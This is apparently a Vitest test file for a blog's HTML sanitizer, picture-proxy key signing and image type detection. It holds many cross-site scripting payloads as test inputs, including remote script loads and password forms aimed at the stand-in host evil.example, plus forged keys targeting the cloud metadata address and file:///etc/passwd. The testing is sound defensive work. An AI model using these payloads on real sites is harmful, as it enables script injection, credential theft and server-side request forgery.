import { randomBytes } from 'node:crypto'
import process from 'node:process'
import { load } from 'cheerio'
import { describe, expect, it } from 'vitest'
import { cleanHtml, pictureAddress, pictureOnOurs, pictureType, shownPost } from './rules.ts'

const secret = Buffer.alloc(32, 7)
const origin = 'https://foyer.example'
const pictureAt = (address: string) => pictureOnOurs(address, secret)
const clean = (html: string): string => cleanHtml(html, { origin, pictureAt })

/** Elements a post may hold, and what each may say; all else is harm. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'p br hr blockquote pre h2 h3 h4 h5 h6 strong b em i u s del ins sub sup small mark abbr cite q code kbd time ul ol li dl dt dd table caption thead tbody tfoot tr th td figure figcaption'
      .split(' ')
      .map((name) => [name, []]),
  ),
  a: ['href', 'rel', 'title'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
  table: ['tabindex'],
  ol: ['start'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
}

/** What a browser's parser finds in cleaned HTML beside what is allowed. */
function harmIn(html: string): string[] {
  const document = load(html, null, false)
  return document('*')
    .toArray()
    .flatMap((node) => {
      const element = document(node)
      const tag = element.prop('tagName')?.toLowerCase() ?? ''
      const may = allowed[tag]
      if (may === undefined) return [tag]
      return Object.entries(element.attr() ?? {})
        .filter(
          ([name, value]) =>
            !may.includes(name) ||
            (name === 'href' && !/^(?:https?:\/\/|mailto:|\/(?!\/))/.test(value)) ||
            (name === 'src' && !value.startsWith('/blog/')),
        )
        .map(([name, value]) => `${tag} ${name}=${value}`)
    })
}

describe('what is taken out of a post', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script/x>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://cdn.example/a.png" onload="alert(1)" srcset="https://evil.example/b.png 2x">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="//evil.example/pixel.gif">',
    '<img/src="https://cdn.example/a.png"/onerror=alert(1)>',
    '<svg onload=alert(1)><circle r="9"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="x" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<p style="background:url(https://evil.example)">x</p>',
    '<style>body{display:none}</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<div id=content name=forms class="site-header">x</div>',
    '<p class="fixed inset-0" id="content">x</p>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><script>alert(1)</script></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<video src="https://evil.example/a.mp4" autoplay></video><audio src=x></audio>',
    '<!--[if IE]><script>alert(1)</script><![endif]--><!-- > <script>x</script> -->',
    '<?xml version="1.0"?><!DOCTYPE html><html><head><title>x</title></head><body onload=alert(1)>y',
    '<p title="x" onmouseover=alert(1)//>x</p>',
    '<a title="<img src=x onerror=alert(1)>" href="https://a.example">x</a>',
    '<select><option><style><img src=x onerror=alert(1)></style></select>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<custom-element onclick=alert(1)>x</custom-element>',
    '<img alt="&quot; onerror=alert(1) x=&quot;" src="https://cdn.example/a.png">',
    '<plaintext><script>alert(1)</script>',
    '<table background="javascript:alert(1)"><td background=x>x</table>',
    '<ol start="1" onclick=alert(1)><li value=9>x</ol>',
  ])('%s', (html) => {
    const left = clean(`<p>before</p>${html}`)
    expect(left).toContain('<p>before</p>')
    expect(harmIn(left)).toEqual([])
    expect(harmIn(`<div>${html}</div>`)).not.toEqual([])
  })

  it('is all that harms, in whatever order broken pieces come', () => {
    const pieces = (
      '<p>|</p>|<a href="https://a.example/?on=1&style=2">|<a title="|<a href=\'|</a>|<img alt="|' +
      '<img src="https://a.example/x.png" alt="style = &quot;x&quot; onload=1">|<td colspan="2">|<b|/>|>|<|' +
      '"|\'|="|5" | on = 5 | onload=alert(1) | style=|&quot;|&lt;script&gt;|<script>|</script|<svg>|<math>|' +
      "<style>|</style>|<noscript>|<table>|<form>|<textarea>|<!--|-->|<![CDATA[|]]>|<?|\0|<p title='\"'>"
    ).split('|')
    let seed = 1
    const next = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
      return Math.floor((seed / 2_147_483_648) * below)
    }
    for (let n = 0; n < 2_000; n += 1) {
      const html = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)]).join('')
      expect([html, harmIn(clean(html))]).toEqual([html, []])
    }
  })

  it('is done with the costliest megabyte before a reader notices', () => {
    const million = (piece: string) => piece.repeat(1_000_000 / piece.length)
    for (const html of [
      million('<'),
      million('<p>x'),
      million('<li>'),
      million('<svg>'),
      million('<table><tr><td>'),
      `<b ${million('a=1 ')}>`,
      `<img alt="${million(' onx')}" src="https://a.example/b.png">`,
      `<p>5" ${million('<a href="https://a.example/ on on on">x</a>')}`,
    ]) {
      const begun = process.cpuUsage()
      clean(html)
      const { user, system } = process.cpuUsage(begun)
      expect((user + system) / 1_000).toBeLessThan(4_000)
    }
  })

  it('ends with posts that nest without end', () => {
    const deep = clean(`${'<blockquote>'.repeat(20_000)}x${'</blockquote>'.repeat(20_000)}`)
    expect(deep.split('<blockquote>').length).toBeLessThan(60)
  })
})

describe('what is kept of a post', () => {
  it.each([
    ['<h1>One</h1><h2>Two</h2>', '<h2>One</h2><h2>Two</h2>'],
    ['<div><section><p>Words stay</p></section></div>', '<p>Words stay</p>'],
    ['<p>a<br>b &amp; c &lt;d&gt;</p>', '<p>a<br />b &amp; c &lt;d&gt;</p>'],
    [
      '<table><tr><th scope="row" colspan=2>a</th><td>b</td></tr></table>',
      '<table tabindex="0"><tr><th scope="row" colspan="2">a</th><td>b</td></tr></table>',
    ],
    ['<a href="/guide?x=1#y">Guide</a>', '<a href="/guide?x=1#y">Guide</a>'],
    ['<a href="mailto:a@b.example">Mail</a>', '<a href="mailto:a@b.example">Mail</a>'],
    [
      '<a href="https://foyer.example/faq" rel="opener" target="_blank">FAQ</a>',
      '<a href="https://foyer.example/faq">FAQ</a>',
    ],
    [
      '<a href="https://other.example/x" target="_blank">Elsewhere</a>',
      '<a href="https://other.example/x" rel="noopener">Elsewhere</a>',
    ],
    ['<a href="//other.example">x</a>', '<a>x</a>'],
    ['<a href="/\\other.example">x</a>', '<a>x</a>'],
    ['<a href="https://foyer.example@evil.example/">x</a>', '<a>x</a>'],
    ['<a href="page.html">x</a>', '<a>x</a>'],
    ['<a href="ftp://a.example/">x</a>', '<a>x</a>'],
  ])('%s', (html, kept) => {
    expect(clean(html)).toBe(kept)
  })

  it('is its pictures, from our own origin alone', () => {
    const [, key] =
      /^<img src="\/blog\/images\/([\w-]+)" alt="A desk" width="600" loading="lazy" \/>$/.exec(
        clean(
          '<img src="https://cdn.example/a.png?w=1&h=2" alt="A desk" width=600 height="9e9" srcset="x 2x">',
        ),
      ) ?? []
    expect(pictureAddress(key ?? '', secret)).toBe('https://cdn.example/a.png?w=1&h=2')
    expect(clean('<img src="/blog/pictures/fees-page.svg">')).toBe(
      '<img src="/blog/pictures/fees-page.svg" alt="" loading="lazy" />',
    )
    for (const src of ['/api/v1/leads', '/blog/pictures/../../x.svg', 'file:///etc/passwd', ''])
      expect(clean(`<p>x</p><img src="${src}">`)).toBe('<p>x</p>')
  })
})

describe('a picture’s key', () => {
  const url = 'https://cdn.example/a.png'
  const key = (pictureOnOurs(url, secret) ?? '').slice('/blog/images/'.length)

  it('stands for the address that we wrote', () => {
    expect(pictureAddress(key, secret)).toBe(url)
  })

  it.each([
    ['an address of somebody’s own', `${'A'.repeat(22)}${Buffer.from(url).toString('base64url')}`],
    [
      'another address behind our proof',
      key.slice(0, 22) + Buffer.from('http://169.254.169.254/').toString('base64url'),
    ],
    ['a shorter one', key.slice(0, 20)],
    ['nothing', ''],
  ])('cannot be %s', (_what, forged) => {
    expect(pictureAddress(forged, secret)).toBeUndefined()
  })

  it('is another with another secret', () => {
    expect(pictureAddress(key, Buffer.alloc(32, 8))).toBeUndefined()
  })

  it('is given to web addresses of a bearable length', () => {
    expect(pictureOnOurs('https://user:word@cdn.example/a.png', secret)).toBeUndefined()
    expect(pictureOnOurs(`https://cdn.example/${'a'.repeat(1_400)}`, secret)).toBeUndefined()
  })
})

describe('what bytes are', () => {
  it.each([
    ['image/png', '89504e470d0a1a0a'],
    ['image/jpeg', 'ffd8ffe0'],
    ['image/gif', '474946383961'],
    ['image/webp', '524946460000000057454250'],
    ['image/avif', '0000001c6674797061766966'],
  ])('%s', (type, hex) => {
    expect(pictureType(Buffer.concat([Buffer.from(hex, 'hex'), randomBytes(40)]))).toBe(type)
  })

  it.each(['<svg xmlns="http://www.w3.org/2000/svg"/>', '<?xml version="1.0"?><svg/>', 'GIF', ''])(
    'no picture: %j',
    (text) => {
      expect(pictureType(Buffer.from(text))).toBeUndefined()
    },
  )
})

it('shows titles and names as one line of visible letters, not without end', () => {
  const post = {
    id: '1',
    slug: 'a',
    title: `\u202eevil\u0000 <b>x</b>\n${'long '.repeat(200)}`,
    feature_image: 'javascript:alert(1)',
    feature_image_alt: null,
    excerpt: ' a\n\n b ',
    created_at: '2026-01-01T00:00:00.000Z',
    published_at: '2026-01-01T00:00:00.000Z',
    authors: [{ name: ' \u200b ' }],
    html: '',
  }
  const shown = shownPost(post, { origin, pictureAt })
  expect(shown.title).toMatch(/^evil <b>x<\/b> long .*…$/)
  expect(Array.from(shown.title)).toHaveLength(300)
  expect(shown).toMatchObject({ author: null, excerpt: 'a b', image: null, html: '' })
})
